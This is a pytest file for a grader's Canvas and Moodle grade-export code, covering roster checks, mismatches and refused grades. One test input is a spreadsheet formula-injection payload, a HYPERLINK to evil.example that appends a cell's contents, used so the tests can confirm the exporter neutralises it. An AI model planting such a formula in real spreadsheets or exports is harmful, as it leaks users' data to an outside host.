"""Grades into the LMS (grader/reporting/lms.py): the import files of Canvas and Moodle for a class of three, built from
records made by hand (nothing is graded here), the roster's checks, what is left out and listed, and the grades refused.
"""
from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest

from grader import batch, cli
from grader.base import homeworks
from grader.base.results import CheckResult, PartResult
from grader.grading import submissions
from grader.reporting import class_report, export, lms
from kit import HW

HOMEWORK = homeworks.load(HW)
SECRET = "0123456789ab"  # a fingerprint of an instructor's own secret (grader.grading.hidden.fingerprint's length)
FORMULA = '=HYPERLINK("http://evil.example/"&A1,"x")'


def _results(passed: set[str], bonus: set[str], inputs: str = "hidden", secret: str = SECRET) -> list[PartResult]:
    """Every part of the homework, each with one main check (passed when its id is in ``passed``) and, where the part
    has a bonus, one bonus check (passed when its id is in ``bonus``)."""
    out = []
    for part in HOMEWORK.parts:
        checks = [CheckResult(f"{part.id}::main", "test_main", "main", "passed" if part.id in passed else "failed")]
        if part.bonus_points:
            checks.append(CheckResult(f"{part.id}::bonus", "test_bonus", "bonus",
                                      "passed" if part.id in bonus else "failed", bonus=True))
        out.append(PartResult(part, checks, inputs=inputs, secret=secret if inputs == "hidden" else ""))
    return out


ALL = {p.id for p in HOMEWORK.parts}
CLASS = {  # name -> (main parts passed, bonus parts passed): 100 + 10, 30 + 0, 80 + 2
    "alice": (ALL, {"ppo", "boss"}),
    "bob": ({"dp", "mc_td"}, set()),
    "hw6-carol": (ALL - {"boss"}, {"ppo"}),  # a GitHub Classroom clone folder: the roster names the login, carol
}


def _record(name: str, passed=ALL, bonus=frozenset(), **kwargs) -> dict:
    return class_report.record_from_results(name, _results(set(passed), set(bonus), **kwargs), [])


def _records_dir(tmp_path: Path, records: list[dict]) -> Path:
    folder = tmp_path / "records"
    for r in records:
        class_report.write_record(folder, r["name"], r)
    return folder


def _roster(tmp_path: Path, text: str, name: str = "roster.csv", bom: bool = True) -> Path:
    path = tmp_path / name
    path.write_bytes(("\ufeff" if bom else "").encode() + text.encode("utf-8"))  # as Excel's «CSV UTF-8» writes it
    return path


def _read(path: Path) -> list[list[str]]:
    with open(path, newline="", encoding="utf-8") as f:
        return list(csv.reader(f))


CLASS_ROSTER = ("submission,lms_id,name\n"
                "alice,alice.smirnova,Алиса Смирнова\n"
                "bob,bob.petrov,Борис Петров\n"
                f'carol,carol.ivanova,"{FORMULA.replace(chr(34), chr(34) * 2)}"\n')


def test_canvas_file_for_a_class_of_three(tmp_path, capsys):
    """From a batch's records: Canvas's leading columns in its importer's order, the «Points Possible» row, the main
    points (of 100) in the assignment's column and the bonus in its own; students by SIS Login ID, a Classroom login
    matched to its clone folder, and a name a spreadsheet would run as a formula kept as text."""
    records = _records_dir(tmp_path, [_record(n, p, b) for n, (p, b) in CLASS.items()])
    code = class_report.main([str(records), str(tmp_path / "out"), "--tables", "--lms", "canvas", "--roster",
                              str(_roster(tmp_path, CLASS_ROSTER)), "--lms-assignment", "ДЗ 6 (4242)"])
    assert code == 0, capsys.readouterr()
    assert _read(tmp_path / "out" / "lms-canvas.csv") == [
        ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "ДЗ 6 (4242)", "ДЗ 6 — бонус"],
        ["Points Possible", "", "", "", "", "100", "10"],
        ["Алиса Смирнова", "", "", "alice.smirnova", "", "100", "10"],
        ["Борис Петров", "", "", "bob.petrov", "", "30", "0"],
        ["'" + FORMULA, "", "", "carol.ivanova", "", "80", "2"]]
    out = capsys.readouterr()
    assert "оценок 3 из 3" in out.out and not out.err


def test_moodle_file_for_a_class_of_three(tmp_path, capsys):
    """Moodle's grade import, matched on e-mail: the e-mail column its export names «Email address», the grade item's
    column and the bonus's; the same grades as Canvas's."""
    records = _records_dir(tmp_path, [_record(n, p, b) for n, (p, b) in CLASS.items()])
    quoted = FORMULA.replace('"', '""')
    roster = _roster(tmp_path, "submission;lms_id;name\nalice;alice@uni.example;Алиса Смирнова\n"  # as Excel writes
                               "bob;bob@uni.example;Борис Петров\n"  # CSV in a Russian locale: semicolons, no BOM
                               f'carol;carol@uni.example;"{quoted}"\n', bom=False)
    out_file = tmp_path / "moodle.csv"
    code = class_report.main([str(records), str(tmp_path / "out"), "--tables", "--lms", "moodle", "--roster",
                              str(roster), "--lms-file", str(out_file), "--homework", "ДЗ 6"])
    assert code == 0, capsys.readouterr()
    assert _read(out_file) == [["Email address", "Name", "ДЗ 6", "ДЗ 6 — бонус"],
                               ["alice@uni.example", "Алиса Смирнова", "100", "10"],
                               ["bob@uni.example", "Борис Петров", "30", "0"],
                               ["carol@uni.example", "'" + FORMULA, "80", "2"]]
    assert not (tmp_path / "out" / "lms-moodle.csv").exists()


def test_mismatches_are_listed_and_the_rest_is_written(tmp_path, capsys):
    """A graded submission no roster line names, a roster line naming no submission, and one whose submission was
    not graded: each listed, no grade of theirs in the file, exit 1; the matched grades are written."""
    records = [_record("alice", ALL, {"boss"}), _record("bob", {"dp"}), _record("dave", {"dp"}),
               class_report.record_from_results("frank_empty", [], [], error="в папке frank_empty не найдено работы")]
    roster = _roster(tmp_path, "submission,lms_id\nalice,a1\nbob,b2\nerin,e3\nfrank_empty,f4\n")
    code = class_report.main([str(_records_dir(tmp_path, records)), str(tmp_path / "out"), "--tables", "--lms",
                              "canvas", "--roster", str(roster)])
    err = capsys.readouterr().err
    assert code == 1
    assert [row[3] for row in _read(tmp_path / "out" / "lms-canvas.csv")[2:]] == ["a1", "b2"]
    assert "работа dave: её нет в списке группы (--roster) — оценки в файле нет" in err
    assert "строка 4 списка: erin → e3: работы с таким именем нет — оценки в файле нет" in err
    assert "строка 5 списка: frank_empty → f4: работа frank_empty не проверена — оценки в файле нет" in err
    assert "не попало в файл (3)" in err


@pytest.mark.parametrize("refused_record, says", [
    (dict(inputs="public"), "самопроверка (только открытые входы, без скрытых): bob"),
    (dict(secret="5d41402abc4b-default"), "секрет скрытых входов по умолчанию (его знает каждый, у кого есть набор): "
                                          "bob"),
], ids=["self-check", "default-secret"])
def test_a_grade_not_for_the_record_is_refused_and_nothing_is_written(tmp_path, capsys, refused_record, says):
    """One self-check record, or one graded with the kit's default secret, in a class refuses the whole file."""
    records = [_record("alice"), _record("bob", **refused_record)]
    roster = _roster(tmp_path, "submission,lms_id\nalice,a1\nbob,b2\n")
    code = class_report.main([str(_records_dir(tmp_path, records)), str(tmp_path / "out"), "--tables", "--lms",
                              "canvas", "--roster", str(roster)])
    err = capsys.readouterr().err
    assert code == 2 and says in err and "файл не записан" in err
    assert not (tmp_path / "out" / "lms-canvas.csv").exists()


def test_a_record_that_does_not_say_how_it_was_graded_is_refused(tmp_path):
    """A record written before records said which inputs graded it (no ``inputs``) is refused too."""
    old = _record("alice")
    for key in ("inputs", "secret", "kit"):
        del old[key]
    assert "не сказано, на каких входах" in lms.refused([old])
    assert lms.refused([_record("alice")]) is None


def test_a_faulty_roster_is_refused_naming_every_line(tmp_path):
    """Before anything is written (or graded): every faulty line of the roster named in one message."""
    roster = _roster(tmp_path, "submission,lms_id\nalice,a@x.ru\nbob,\nALICE,c@x.ru\ncarol,a@x.ru\ndave,=1+1\n"
                               "erin,erin-no-email\n")
    with pytest.raises(homeworks.UsageError) as info:
        lms.read_roster(roster, "moodle")
    message = str(info.value)
    for expected in ("строка 3: пустой столбец lms_id", "строки 2 и 4: submission «ALICE» дважды",
                     "строки 2 и 5: lms_id «a@x.ru» дважды", "строка 6: lms_id «=1+1» начинается с '='",
                     "строка 7: lms_id «erin-no-email» — не адрес e-mail"):
        assert expected in message, message
    with pytest.raises(homeworks.UsageError, match="нет столбца lms_id"):
        lms.read_roster(_roster(tmp_path, "submission,login\nalice,a\n", "other.csv"), "canvas")


def test_gradescope_submitters_are_matched_by_e_mail(tmp_path, capsys):
    """From a Gradescope export: the roster names the submitters' e-mails (submission_metadata.yml); a group's
    submission gives its grade to each of its submitters."""
    root = tmp_path / "assignment_7_export"
    people = {"submission_11": ([("Анна", "anna@uni.example")], _results(ALL, {"ppo"})),
              "submission_12": ([("Пётр", "petr@uni.example"), ("Ольга", "olga@uni.example")], _results({"dp"}, set()))}
    lines = []
    for folder, (who, results) in people.items():
        (root / folder).mkdir(parents=True)
        (root / folder / "results.json").write_text(json.dumps(export.gradescope(results, 1.0)), encoding="utf-8")
        lines += [f"{folder}:", "  :submitters:"]
        lines += [line for name, email in who for line in (f"  - :name: {name}", f"    :email: {email}")]
    (root / "submission_metadata.yml").write_text("\n".join(lines) + "\n", encoding="utf-8")
    roster = _roster(tmp_path, "submission,lms_id\nanna@uni.example,anna@uni.example\n"
                               "OLGA@uni.example,olga@uni.example\npetr@uni.example,petr@uni.example\n")
    code = class_report.main([str(root), str(tmp_path / "out"), "--tables", "--lms", "moodle", "--roster",
                              str(roster), "--homework", "ДЗ 6"])
    assert code == 0, capsys.readouterr()
    assert [row[0::2] for row in _read(tmp_path / "out" / "lms-moodle.csv")] == [
        ["Email address", "ДЗ 6"], ["anna@uni.example", "100"], ["olga@uni.example", "15"],
        ["petr@uni.example", "15"]]


# ---- with --batch: the command line's wiring, without grading -----------------------------------------------------

def _no_umask(monkeypatch):
    monkeypatch.setattr(cli.confine, "own_outputs", lambda: None)  # a root grader's umask: not this test process's


def test_batch_writes_the_file_from_what_it_graded(tmp_path, monkeypatch, capsys):
    """``check.py HW --batch DIR --lms canvas --roster FILE``: the roster is read before grading, and the file is
    written from the submissions the batch graded (here made up: grader.batch.run replaced)."""
    _no_umask(monkeypatch)
    secret = tmp_path / "secret"
    secret.write_text("an instructor's own secret\n", encoding="utf-8")
    monkeypatch.setenv("HWKIT_SECRET_FILE", str(secret))
    subs = [submissions.Submission("alice", tmp_path, "folder", results=_results(ALL, {"boss"})),
            submissions.Submission("bob", tmp_path, "folder", results=_results({"dp"}, set()))]
    monkeypatch.setattr(batch, "run", lambda *args, **kwargs: subs)
    (tmp_path / "class").mkdir()
    roster = _roster(tmp_path, "submission,lms_id\nalice,a1\nbob,b2\n")
    out_file = tmp_path / "canvas.csv"
    code = cli.main([HW, "--batch", str(tmp_path / "class"), "--lms", "canvas", "--roster", str(roster),
                     "--lms-file", str(out_file)])
    assert code == 0, capsys.readouterr()
    assert [row[3:] for row in _read(out_file)[2:]] == [["a1", "", "100", "8"], ["b2", "", "15", "0"]]


def test_batch_refuses_before_grading(tmp_path, monkeypatch, capsys):
    """The kit's default secret, a faulty roster, no file to write, some parts only, or the file among the students':
    exit 2 before anything is graded."""
    _no_umask(monkeypatch)
    monkeypatch.setattr(batch, "run", lambda *a, **k: pytest.fail("graded although --lms was refused"))
    (tmp_path / "class").mkdir()
    good = _roster(tmp_path, "submission,lms_id\nalice,a1\n")
    bad = _roster(tmp_path, "submission,lms_id\nalice,\n", "bad.csv")
    cases = [(["--roster", str(good), "--lms-file", str(tmp_path / "f.csv")], "из секрета по умолчанию"),
             (["--roster", str(bad), "--lms-file", str(tmp_path / "f.csv")], "строка 2: пустой столбец lms_id"),
             (["--roster", str(good)], "--lms-file ФАЙЛ"),
             ([], "нужен список группы --roster")]
    for extra, says in cases:
        assert cli.main([HW, "--batch", str(tmp_path / "class"), "--lms", "canvas", *extra]) == 2
        assert says in capsys.readouterr().err, extra
    assert cli.main([HW, "--lms", "canvas", "--roster", str(good)]) == 2
    assert "для пакетной проверки" in capsys.readouterr().err
    secret = tmp_path / "secret"  # with an instructor's own secret: one part only, or the file among the students'
    secret.write_text("an instructor's own secret\n", encoding="utf-8")
    monkeypatch.setenv("HWKIT_SECRET_FILE", str(secret))
    for extra, says in [(["dp", "--lms-file", str(tmp_path / "f.csv")], "оценка за всю работу"),
                        (["--lms-file", str(tmp_path / "class" / "f.csv")], "не должен лежать в папке с работами")]:
        assert cli.main([HW, "--batch", str(tmp_path / "class"), "--lms", "canvas", "--roster", str(good),
                         *extra]) == 2
        assert says in capsys.readouterr().err, extra
